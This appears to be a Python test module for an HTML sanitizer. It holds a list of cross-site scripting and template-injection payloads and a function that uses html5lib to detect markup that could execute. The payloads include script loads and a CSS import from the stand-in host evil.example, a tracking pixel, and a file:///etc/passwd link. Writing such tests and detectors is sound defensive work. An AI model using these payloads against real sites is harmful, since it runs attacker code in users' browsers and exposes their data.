"""Sixty attempts at markup that acts (reliability X01), and what a harmless document looks like."""

import html5lib

_SCRIPTS = [
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x0b>alert(1)</script>",
    "<script/x>alert(1)</script>",
    "<svg><script>alert(1)</script></svg>",
    "<!--<script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    '<noscript><p title="</noscript><script>alert(1)</script>">',
    "<math><mtext><script>alert(1)</script></mtext></math>",
    "<xmp><script>alert(1)</script></xmp>",
]
_HANDLERS = [
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=x OnErRoR=alert(1)>",
    "<img src=x onerror\n=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<marquee onstart=alert(1)>",
    "<a href=# onclick=alert(1)>x</a>",
    "<div style=animation-name:x onanimationstart=alert(1)>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    'x" autofocus onfocus=alert(1) y="',
    "`onmouseover=alert(1)`",
]
_SCHEMES = [
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](java&#10;script:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](<javascript:alert(1)>)",
    "[x]( javascript:alert(1))",
    "[x][1]\n\n[1]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/pixel.png)",
    "<a href=javascript:alert(1)>x</a>",
    '<a href="\x01javascript:alert(1)">x</a>',
    "<iframe src=javascript:alert(1)></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
    "<base href=javascript:alert(1)//>",
    "<link rel=stylesheet href=javascript:alert(1)>",
]
_TEMPLATES = [
    "{% include 'admin/base.html' %}",
    "{{ settings.SECRET_KEY }}",
    "${7*7} <%= 7*7 %> #{7*7}",
    "<style>@import 'https://evil.example/x.css'</style>",
]
PAYLOADS = [*_SCRIPTS, *_HANDLERS, *_SCHEMES, *_TEMPLATES]

_ACTING = {
    "script",
    "iframe",
    "object",
    "embed",
    "base",
    "form",
    "svg",
    "math",
    "link",
    "img",
    "video",
    "style",
    "input",
}
_ADDRESSES = {"href", "src", "action", "formaction", "data"}
_SAFE = ("http:", "https:", "mailto:", "/", "./", "../", "#", "?", "{{")
PAGE = frozenset({"link", "script", "svg", "form", "input", "img"})  # what our own pages are made of


def harm_in(markup: str, *, ours: frozenset[str] = frozenset()) -> list[str]:
    """What in `markup`, parsed as a browser does, could act; `ours` are elements our template has itself."""
    found = []
    tree = html5lib.parse(markup, treebuilder="etree", namespaceHTMLElements=False)
    for element in tree.iter():
        name = element.tag.rsplit("}", 1)[-1].lower() if isinstance(element.tag, str) else ""
        if name in _ACTING - ours:
            found.append(f"<{name}>")
        if name == "script" and not _is_our_script(element.attrib):
            found.append(f"<script> {element.text or ''}")
        found += [f"{name} {each}" for each in element.attrib if str(each).lower().startswith("on")]
        found += [
            f"{name} {each}={value}" for each, value in element.attrib.items() if _leads_astray(name, each, value)
        ]
    return found


def _is_our_script(attributes: dict[str, str]) -> bool:
    return (
        attributes.get("src", "").startswith(("/static/", "/admin/jsi18n/"))
        or attributes.get("type") == "application/json"
    )


def _leads_astray(name: str, attribute: str, value: str) -> bool:
    if attribute not in _ADDRESSES or (name == "link" and value.startswith("data:image/svg+xml,")):
        return False
    where = value.strip().lower()
    return bool(where) and (not where.startswith(_SAFE) or where.startswith("//"))
